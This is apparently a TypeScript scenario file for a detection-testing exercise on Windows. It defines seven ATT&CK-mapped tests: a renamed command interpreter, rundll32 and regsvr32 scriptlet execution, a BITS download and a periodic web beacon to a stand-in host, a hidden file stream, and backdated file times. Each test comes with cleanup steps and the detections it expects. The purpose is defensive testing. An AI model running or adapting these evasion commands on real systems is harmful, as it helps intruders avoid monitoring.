import { alerted, logged, prevented, type StarterScenario } from './shape.ts';

const windows = { platforms: ['windows'] };

export const evasion: StarterScenario = {
  name: 'Out of sight on Windows',
  description:
    'Programs under other names, scripts run by what Windows trusts, files where nobody looks, and a connection that comes back again and again. Shows whether rules look at what a program does or only at what it is called.',
  tags: ['windows', 'defence evasion', 'command and control'],
  tests: [
    {
      key: 'renamed-interpreter',
      technique: 'T1036.003',
      name: 'Command interpreter under another name',
      description:
        'The command interpreter is copied to the temporary folder under a name that sounds like a service, and run from there.',
      objective: 'Get past rules that look for cmd.exe by its name.',
      procedure:
        'Run the commands from the foothold, without elevation. Ask blue for the original file name: it stands in the version information of the copy.',
      command:
        'copy /y "%SystemRoot%\\System32\\cmd.exe" "%TEMP%\\damson-svc.exe" & "%TEMP%\\damson-svc.exe" /c whoami',
      cleanup_command: 'del "%TEMP%\\damson-svc.exe"',
      expected_detection:
        'Process creation (Sysmon event 1) whose OriginalFileName is Cmd.Exe and whose image is called otherwise; a program that runs from a temporary folder.',
      ...windows,
      opsec: 'medium',
      tags: ['masquerading'],
      expectations: [alerted('medium', 15), logged],
    },
    {
      key: 'rundll32-start',
      technique: 'T1218.011',
      name: 'Start a program through rundll32',
      description: 'A function of a system library starts a program, so that rundll32 is its parent.',
      objective: 'Break the chain of parents that rules follow.',
      procedure: 'Run the command from the foothold. The character map opens: that is all there is to see.',
      command: 'rundll32.exe shell32.dll,ShellExec_RunDLL charmap.exe',
      cleanup_command: 'taskkill /im charmap.exe /f',
      expected_detection:
        'Process creation of rundll32.exe with ShellExec_RunDLL; a child process of rundll32.exe.',
      ...windows,
      opsec: 'medium',
      tags: ['living off the land'],
      expectations: [alerted('medium', 15), logged],
    },
    {
      key: 'regsvr32-scriptlet',
      technique: 'T1218.010',
      name: 'Run a script through regsvr32',
      description:
        'A scriptlet is written to the temporary folder and run by the program that registers libraries. It leaves a line in a file.',
      objective: 'Run a script where script hosts are blocked.',
      procedure:
        'Run the commands in PowerShell, without elevation. Check that damson-scriptlet.txt was written, and keep the error where it was not.',
      command: `@'
<?XML version="1.0"?>
<scriptlet>
<registration progid="Damson.Exercise" classid="{0DA350DA-0000-4000-8000-0DA350DA0001}">
<script language="JScript"><![CDATA[
var shell = new ActiveXObject("WScript.Shell");
var file = shell.ExpandEnvironmentStrings("%TEMP%") + "\\\\damson-scriptlet.txt";
new ActiveXObject("Scripting.FileSystemObject").CreateTextFile(file, true).WriteLine("damson");
]]></script>
</registration>
</scriptlet>
'@ | Set-Content "$env:TEMP\\damson.sct" -Encoding Ascii
regsvr32.exe /s /n /u /i:"$env:TEMP\\damson.sct" scrobj.dll`,
      cleanup_command:
        'Remove-Item "$env:TEMP\\damson.sct", "$env:TEMP\\damson-scriptlet.txt" -ErrorAction SilentlyContinue',
      expected_detection:
        'Process creation of regsvr32.exe with /i: and scrobj.dll; scrobj.dll loaded by regsvr32.exe (Sysmon event 7); stopped by the endpoint’s protection or by application control.',
      ...windows,
      opsec: 'high',
      tags: ['living off the land', 'powershell'],
      expectations: [prevented, alerted('high', 10)],
    },
    {
      key: 'bits-download',
      technique: 'T1197',
      name: 'Fetch a file with a BITS job',
      description: 'The service that fetches Windows updates is asked to fetch a harmless file.',
      objective: 'Bring a file in by a process that may always talk to the web.',
      procedure:
        'Serve damson.txt from a host of the exercise, #{collector}. Run the command as the exercise account and note which process made the connection.',
      command:
        'bitsadmin.exe /transfer DamsonExercise /download /priority foreground http://#{collector}/damson.txt "%TEMP%\\damson-bits.txt"',
      cleanup_command: 'bitsadmin.exe /cancel DamsonExercise & del "%TEMP%\\damson-bits.txt"',
      expected_detection:
        'BITS client events 3 (a job was created) and 59 (a transfer was started) with an address that is no update server; process creation of bitsadmin.exe.',
      ...windows,
      opsec: 'medium',
      tags: ['living off the land'],
      expectations: [alerted('medium', 30), logged],
      variables: { collector: 'collector.example' },
    },
    {
      key: 'hidden-stream',
      technique: 'T1564.004',
      name: 'Hide text in a stream of a file',
      description: 'A second stream is written to a text file. Explorer and dir show nothing of it.',
      objective: 'Keep a payload where a look at the folder does not find it.',
      procedure:
        'Run the commands in one console: the last one lists the stream. Ask blue whether a scan of the folder would have found it.',
      command:
        'echo damson> "%TEMP%\\damson-stream.txt" & echo hidden> "%TEMP%\\damson-stream.txt:hidden.txt" & dir /r "%TEMP%\\damson-stream.txt"',
      cleanup_command: 'del "%TEMP%\\damson-stream.txt"',
      expected_detection:
        'Sysmon event 15 (a stream of a file was created) for a stream that is no Zone.Identifier.',
      ...windows,
      opsec: 'low',
      tags: ['files'],
      expectations: [logged],
    },
    {
      key: 'changed-times',
      technique: 'T1070.006',
      name: 'Make a new file look old',
      description: 'The times of a new file are set back by years.',
      objective: 'Drop out of searches for what changed lately.',
      procedure:
        'Run the commands in PowerShell. Then ask blue when the file really came into being, and by which source they know.',
      command:
        '$file = New-Item "$env:TEMP\\damson-old.txt" -ItemType File -Force\n$file.CreationTime = $file.LastWriteTime = $file.LastAccessTime = "2019-03-04 05:06:07"\nGet-Item $file | Select-Object Name, CreationTime, LastWriteTime',
      cleanup_command: 'Remove-Item "$env:TEMP\\damson-old.txt"',
      expected_detection:
        'Sysmon event 2 (a process changed a file creation time) by powershell.exe; a creation time before that of the account’s profile.',
      ...windows,
      opsec: 'low',
      tags: ['powershell', 'files'],
      expectations: [logged],
    },
    {
      key: 'web-beacon',
      technique: 'T1071.001',
      name: 'Call home every few seconds',
      description:
        'Twenty small web requests go to a host of the exercise, at intervals that vary a little, as an implant’s would.',
      objective: 'See whether a regular, harmless-looking conversation stands out.',
      procedure:
        'Let #{collector} answer web requests on port 8080. Run the command in PowerShell and let it finish: it takes about five minutes. Compare what arrived with what the proxy or firewall has.',
      command:
        '1..20 | ForEach-Object { try { Invoke-WebRequest "http://#{collector}:8080/news?id=$_" -UserAgent "damson-exercise" -UseBasicParsing -TimeoutSec 5 | Out-Null } catch {}; Start-Sleep -Seconds (Get-Random -Minimum 10 -Maximum 20) }',
      cleanup_command: null,
      expected_detection:
        'Many requests of one host to one address at nearly equal intervals; a user agent that no program here has; web requests by powershell.exe.',
      ...windows,
      opsec: 'medium',
      tags: ['command and control', 'powershell'],
      expectations: [alerted('medium', 60), logged],
      variables: { collector: 'collector.example' },
    },
  ],
};
